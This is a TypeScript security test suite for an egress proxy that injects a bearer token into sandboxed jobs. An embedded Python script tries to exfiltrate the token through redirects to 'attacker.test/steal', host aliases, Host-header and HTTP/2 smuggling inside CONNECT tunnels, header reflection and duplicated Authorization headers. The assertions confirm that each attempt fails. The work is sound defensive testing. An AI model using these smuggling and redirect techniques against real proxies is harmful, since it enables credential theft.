// The attacks of issue 46 §2 on a credential the egress proxy adds, each run by a setup command in a
// real sandbox (runJob, Docker) through HTTPS_PROXY as setup has it, and each judged where it
// lands: by the requests the upstreams received (which Authorization each saw) and by the egress
// events. The credential's host (cred.test) is an HTTPS server of this test's own that also
// answers for an alias (alias.test, the same address); the attacker's host (attacker.test) and
// another allowed host (other.test) listen on addresses of their own. The attacks:
//   a. the credential's host asked for under the alias: a plain tunnel, no header added;
//   b. a 302 from the credential's host to the attacker's, followed by the client: the attacker
//      sees no Authorization, or only the placeholder the client itself sent;
//   c. the placeholder sent to another allowed host: it sees the placeholder, never the token;
//   d. HTTP/2 to the credential's host, and a request naming another host inside its tunnel:
//      never h2, 421 for the other name, and nothing of it reaches an upstream;
//   e. an upstream that reflects the Authorization it got: setup's output shows only '*'s;
//   f. a request to the credential's host carrying Authorization twice and a Proxy-Authorization:
//      the upstream gets one Authorization, the token, and no Proxy-Authorization.
//
// Backend: Docker (the setup network, the policy's limits, the engine's refusals, a browser over
// real jobs).
import { randomBytes } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import https from "node:https";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { AnthropicModel } from "../../src/agent/model.js";
import { loadConfig, type Config } from "../../src/core/config/config.js";
import type { EventOf, JobResult, TranscriptEvent } from "../../src/core/spec/spec.js";
import { runJob } from "../../src/job/run.js";
import { EgressProxy } from "../../src/net/proxy.js";
import { makeTestCertificate, type TestCertificate } from "../support/test-ca.js";

const TOKEN = `atk_${randomBytes(12).toString("hex")}`;
const PLACEHOLDER = "Bearer PATCHBAY_PLACEHOLDER";
// Addresses of this test's own: the credential's host (and its alias), the attacker's, another host.
const IP = (n: number) => `127.219.${process.pid % 250}.${n}`;
const ADDRESS: Record<string, string> = {
  "cred.test": IP(1),
  "alias.test": IP(1),
  "attacker.test": IP(2),
  "other.test": IP(3),
};

/** One request an upstream received: which server (by address), the Host, the path and the Authorization ("" for none). */
interface Seen {
  server: string;
  host: string;
  path: string;
  authorization: string;
}
const seen: Seen[] = [];
const servers: https.Server[] = [];
let dir = "";
let cert: TestCertificate;
let config: Config;

// Every server: /redirect answers 302 to the attacker's host; /echo reflects the Authorization it
// got in a header and in the body; anything else says which host it was and whether a header came.
function answer(server: string): http.RequestListener {
  return (req, res) => {
    const authorization = req.headers.authorization ?? "";
    const path = (req.url ?? "/").replace(/\?.*$/s, "");
    seen.push({ server, host: req.headers.host ?? "", path, authorization });
    if (path === "/redirect") return void res.writeHead(302, { location: "https://attacker.test/steal" }).end();
    if (path === "/headers") {
      const names = req.rawHeaders.filter((_, i) => i % 2 === 0).map((n) => n.toLowerCase());
      return void res.end(names.join(","));
    }
    if (path === "/echo")
      return void res.writeHead(200, { "x-echo": authorization }).end(`you sent: ${authorization}\n`);
    res.end(
      `${server === IP(1) ? "cred" : server === IP(2) ? "attacker" : "other"} host=${req.headers.host} auth=${authorization ? "yes" : "none"}`,
    );
  };
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "pb-cred-atk-"));
  cert = makeTestCertificate(dir, Object.keys(ADDRESS));
  for (const ip of new Set(Object.values(ADDRESS))) {
    const s = https.createServer({ key: cert.key, cert: cert.cert }, answer(ip));
    s.on("tlsClientError", () => {});
    await new Promise<void>((resolve, reject) => s.once("error", reject).listen(443, ip, () => resolve()));
    servers.push(s);
  }
  const file = join(dir, "credentials.yaml");
  writeFileSync(
    file,
    `credentials:\n  atk:\n    host: cred.test\n    bearer: { env: PB_TEST_ATK_TOKEN }\n    ca: ${cert.caFile}\n`,
  );
  config = loadConfig({ ...process.env, PATCHBAY_EGRESS_CREDENTIALS: file, PB_TEST_ATK_TOKEN: TOKEN });
});
afterAll(async () => {
  for (const s of servers) {
    s.closeAllConnections();
    await new Promise((r) => s.close(r));
  }
  if (dir) rmSync(dir, { recursive: true, force: true });
});

// The attacker's tools, in the sandbox: HTTPS through the proxy (urllib, following redirects), and
// raw TLS through a CONNECT of its own choosing, naming any server and offering any ALPN. The
// client trusts what setup's variables say (the job's CA) and the test CA (the plain tunnels).
const ATTACKS = String.raw`
import os, re, socket, ssl, sys, urllib.error, urllib.request
def ctx(alpn=None):
    c = ssl.create_default_context()
    c.load_verify_locations("/workspace/test-ca.pem")
    if alpn: c.set_alpn_protocols(alpn)
    return c
def get(label, url, headers={}):
    try:
        r = urllib.request.urlopen(urllib.request.Request(url, headers=headers), context=ctx(), timeout=30)
        out = "%s %d %s | x-echo=%s" % (r.url, r.status, r.read().decode().strip(), r.headers.get("x-echo"))
    except urllib.error.HTTPError as e:
        out = "%s %d %s" % (e.url, e.code, e.read().decode().strip())
    except Exception as e:
        out = "error %s" % e
    print("%s: %s" % (label, out), flush=True)
def raw(label, target, name, alpn, data):
    host, port = os.environ["HTTPS_PROXY"].rsplit("/", 1)[-1].split(":")
    s = socket.create_connection((host, int(port)), timeout=30)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        c = s.recv(4096)
        if not c: break
        head += c
    try:
        t = ctx(alpn).wrap_socket(s, server_hostname=name)
    except Exception as e:
        return print("%s: handshake failed (%s: %s)" % (label, type(e).__name__, e), flush=True)
    proto = t.selected_alpn_protocol()
    t.sendall(data)
    out = b""
    try:
        while True:
            c = t.recv(65536)
            if not c: break
            out += c
    except Exception as e:
        out += b" [" + type(e).__name__.encode() + b"]"
    statuses = [m.decode() for m in re.findall(rb"HTTP/1\.1 (\d{3}) ", out)]
    body = out.split(b"\r\n\r\n", 1)[-1].decode(errors="replace") if which == "f" else ""
    print("%s: alpn=%s statuses=%s%s" % (label, proto, ",".join(statuses) or "none", body and " " + body), flush=True)
def h2(authority):
    # The HTTP/2 preface, SETTINGS, and a GET for / naming the authority (HPACK: indexed :method GET,
    # :scheme https and :path /; :authority as a literal with an indexed name).
    block = b"\x82\x87\x84\x01" + bytes([len(authority)]) + authority.encode()
    return (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
            + len(block).to_bytes(3, "big") + b"\x01\x05" + (1).to_bytes(4, "big") + block)
def http1(*hosts):
    reqs = ["GET /private HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (h, "Connection: close\r\n" if i == len(hosts) - 1 else "")
            for i, h in enumerate(hosts)]
    return "".join(reqs).encode()
P = {"Authorization": "Bearer PATCHBAY_PLACEHOLDER"}
which = sys.argv[1]
if which == "a":
    get("alias", "https://alias.test/private")
    raw("alias, cred.test inside", "alias.test:443", "alias.test", ["http/1.1"], http1("cred.test"))
    raw("alias, cred.test as SNI", "alias.test:443", "cred.test", ["http/1.1"], http1("cred.test"))
elif which == "b":
    get("redirect", "https://cred.test/redirect")
    get("redirect with placeholder", "https://cred.test/redirect", P)
elif which == "c":
    get("placeholder to cred", "https://cred.test/private", P)
    get("placeholder to other", "https://other.test/private", P)
elif which == "d":
    raw("h2 only", "cred.test:443", "cred.test", ["h2"], h2("other.test"))
    raw("h2 preface anyway", "cred.test:443", "cred.test", ["h2", "http/1.1"], h2("other.test"))
    raw("host other", "cred.test:443", "cred.test", ["h2", "http/1.1"], http1("other.test"))
    raw("host cred then other", "cred.test:443", "cred.test", ["http/1.1"], http1("cred.test", "other.test"))
elif which == "e":
    get("echo", "https://cred.test/echo")
elif which == "f":
    tricks = ("GET /headers HTTP/1.1\r\nHost: cred.test\r\nAuthorization: Bearer mine-1\r\n"
              "Proxy-Authorization: Bearer PATCHBAY_PLACEHOLDER\r\nAuthorization: Bearer mine-2\r\n"
              "Connection: close\r\n\r\n")
    raw("two and a proxy one", "cred.test:443", "cred.test", ["http/1.1"], tricks.encode())
`;

const ALLOW = ["cred.test", "alias.test", "attacker.test", "other.test"];

// The test proxy: the test's names are its loopback addresses, exempted from the address check.
const proxy = () =>
  new EgressProxy({
    allowPrivate: [`${IP(0)}/24`],
    resolve: async (h) => {
      const ip = ADDRESS[h];
      if (ip) return [ip];
      throw Object.assign(new Error("no such host"), { code: "ENOTFOUND" });
    },
  });

interface Attack {
  /** Setup's output, one line per try, by its label. */
  out: Map<string, string>;
  /** What the upstreams received during the job. */
  seen: Seen[];
  egress: EventOf<"egress">[];
  events: TranscriptEvent[];
  result: JobResult;
}

/** Runs one attack as a job's setup (ended with exit 3 on purpose: no model is needed). */
async function attack(which: string): Promise<Attack> {
  const repo = mkdtempSync(join(tmpdir(), "pb-atk-repo-"));
  try {
    writeFileSync(join(repo, "attacks.py"), ATTACKS);
    writeFileSync(join(repo, "test-ca.pem"), cert.caPem);
    const model = new AnthropicModel({ apiKey: "test-key", baseURL: "http://127.0.0.1:9", maxRetries: 0 });
    const events: TranscriptEvent[] = [];
    const before = seen.length;
    const result = await runJob(
      {
        task: "t",
        repo: { path: repo },
        setup: [`python3 attacks.py ${which}`, "exit 3"],
        network: { setup: { allow: ALLOW, credentials: ["atk"] } },
      },
      { model, egress: proxy(), config, onEvent: (e) => events.push(e) },
    );
    expect(result.error).toMatch(/^setup command failed \(exit 3\): exit 3/);
    const setup = events.find((e): e is EventOf<"setup"> => e.type === "setup")!;
    expect(setup.exitCode, setup.outputTail).toBe(0);
    const out = new Map(
      setup.outputTail
        .trim()
        .split("\n")
        .map((l) => [l.slice(0, l.indexOf(": ")), l.slice(l.indexOf(": ") + 2)] as [string, string]),
    );
    // Whatever the attack, the token is in no event and not in the result.
    expect(JSON.stringify(events)).not.toContain(TOKEN);
    expect(JSON.stringify(result)).not.toContain(TOKEN);
    return {
      out,
      seen: seen.slice(before),
      egress: events.filter((e): e is EventOf<"egress"> => e.type === "egress"),
      events,
      result,
    };
  } finally {
    rmSync(repo, { recursive: true, force: true });
  }
}

const row = (e: EventOf<"egress">) => [e.method, e.host, e.path ?? null, e.status ?? null, e.credential ?? null];

describe("attacks on a credential the egress proxy adds, from a sandbox's setup", () => {
  it("a: the credential's host asked for under an alias on its address is a plain tunnel: no header added", async () => {
    const a = await attack("a");
    expect(a.out.get("alias")).toBe("https://alias.test/private 200 cred host=alias.test auth=none | x-echo=None");
    expect(a.out.get("alias, cred.test inside")).toBe("alpn=http/1.1 statuses=200");
    expect(a.out.get("alias, cred.test as SNI")).toMatch(/^handshake failed \(/);
    // The upstream got both requests the tunnels carried, neither with an Authorization.
    expect(a.seen).toEqual([
      { server: IP(1), host: "alias.test", path: "/private", authorization: "" },
      { server: IP(1), host: "cred.test", path: "/private", authorization: "" },
    ]);
    expect(a.egress.map((e) => [e.method, e.host, e.allowed, e.credential ?? null, e.reason ?? null])).toEqual([
      ["CONNECT", "alias.test", true, null, null],
      ["CONNECT", "alias.test", true, null, null],
      [
        "CONNECT",
        "alias.test",
        false,
        null,
        "the ClientHello's server name cred.test is not the CONNECT host alias.test",
      ],
    ]);
  });

  it("b: a redirect from the credential's host to the attacker's is followed without the token", async () => {
    const b = await attack("b");
    expect(b.out.get("redirect")).toBe(
      "https://attacker.test/steal 200 attacker host=attacker.test auth=none | x-echo=None",
    );
    expect(b.out.get("redirect with placeholder")).toBe(
      "https://attacker.test/steal 200 attacker host=attacker.test auth=yes | x-echo=None",
    );
    // The credential's host had the token (there was something to steal); the attacker's never.
    expect(b.seen).toEqual([
      { server: IP(1), host: "cred.test", path: "/redirect", authorization: `Bearer ${TOKEN}` },
      { server: IP(2), host: "attacker.test", path: "/steal", authorization: "" },
      { server: IP(1), host: "cred.test", path: "/redirect", authorization: `Bearer ${TOKEN}` },
      { server: IP(2), host: "attacker.test", path: "/steal", authorization: PLACEHOLDER },
    ]);
    expect(b.egress.map(row)).toEqual([
      ["GET", "cred.test", "/redirect", 302, "atk"],
      ["CONNECT", "attacker.test", null, null, null],
      ["GET", "cred.test", "/redirect", 302, "atk"],
      ["CONNECT", "attacker.test", null, null, null],
    ]);
  });

  it("c: the placeholder sent to another allowed host reaches it as the placeholder; the credential's host gets the token", async () => {
    const c = await attack("c");
    expect(c.out.get("placeholder to cred")).toBe(
      "https://cred.test/private 200 cred host=cred.test auth=yes | x-echo=None",
    );
    expect(c.out.get("placeholder to other")).toBe(
      "https://other.test/private 200 other host=other.test auth=yes | x-echo=None",
    );
    expect(c.seen).toEqual([
      { server: IP(1), host: "cred.test", path: "/private", authorization: `Bearer ${TOKEN}` },
      { server: IP(3), host: "other.test", path: "/private", authorization: PLACEHOLDER },
    ]);
    expect(c.egress.map(row)).toEqual([
      ["GET", "cred.test", "/private", 200, "atk"],
      ["CONNECT", "other.test", null, null, null],
    ]);
  });

  it("d: HTTP/2 to the credential's host is never spoken; a request naming another host inside its tunnel gets 421 and reaches no upstream", async () => {
    const d = await attack("d");
    expect(d.out.get("h2 only")).toMatch(/^handshake failed \(SSLError: .*no application protocol/i);
    expect(d.out.get("h2 preface anyway")).toBe("alpn=http/1.1 statuses=400");
    expect(d.out.get("host other")).toBe("alpn=http/1.1 statuses=421");
    expect(d.out.get("host cred then other")).toBe("alpn=http/1.1 statuses=200,421");
    // One request reached an upstream: the one for the credential's own host.
    expect(d.seen).toEqual([{ server: IP(1), host: "cred.test", path: "/private", authorization: `Bearer ${TOKEN}` }]);
    const refusedHost = `the request's Host "other.test" is not the CONNECT host cred.test`;
    const rows = d.egress.map((e) => [...row(e), e.allowed, e.reason ?? null]);
    expect(rows.slice(0, 3)).toEqual([
      ["CONNECT", "cred.test", null, null, "atk", false, "TLS handshake failed: ERR_SSL_NO_APPLICATION_PROTOCOL"],
      ["?", "cred.test", null, null, "atk", false, "bad request (HPE_PAUSED_H2_UPGRADE)"],
      ["GET", "cred.test", "/private", 421, "atk", false, refusedHost],
    ]);
    // Pipelined behind the first, the request for other.test is refused (and recorded) as soon as
    // it is read, which may be before the first one's answer ends; its own answer waits its turn.
    expect(rows.slice(3)).toHaveLength(2);
    expect(rows.slice(3)).toEqual(
      expect.arrayContaining([
        ["GET", "cred.test", "/private", 421, "atk", false, refusedHost],
        ["GET", "cred.test", "/private", 200, "atk", true, null],
      ]),
    );
  });

  it("e: an upstream reflecting the Authorization it got shows setup only '*'s, in the body and in a header", async () => {
    const e = await attack("e");
    const stars = "*".repeat(`Bearer ${TOKEN}`.length);
    expect(e.out.get("echo")).toBe(`https://cred.test/echo 200 you sent: ${stars} | x-echo=${stars}`);
    expect(e.seen).toEqual([{ server: IP(1), host: "cred.test", path: "/echo", authorization: `Bearer ${TOKEN}` }]);
    const setup = e.events.find((x): x is EventOf<"setup"> => x.type === "setup")!;
    expect(setup.outputTail).toContain(stars);
    expect(setup.outputTail).not.toContain(TOKEN);
    expect(e.egress.map(row)).toEqual([["GET", "cred.test", "/echo", 200, "atk"]]);
  });

  it("f: a request with two Authorizations and a Proxy-Authorization reaches the credential's host with the token alone", async () => {
    const f = await attack("f");
    // The upstream's answer is the names of the headers it got, in order.
    const got = /^alpn=http\/1\.1 statuses=200 (.*)$/.exec(f.out.get("two and a proxy one") ?? "");
    expect(got, f.out.get("two and a proxy one")).not.toBeNull();
    const names = got![1]!.split(",");
    expect(names.filter((n) => n === "authorization")).toHaveLength(1);
    expect(names).not.toContain("proxy-authorization");
    expect(f.seen).toEqual([{ server: IP(1), host: "cred.test", path: "/headers", authorization: `Bearer ${TOKEN}` }]);
    expect(f.egress.map(row)).toEqual([["GET", "cred.test", "/headers", 200, "atk"]]);
  });
});
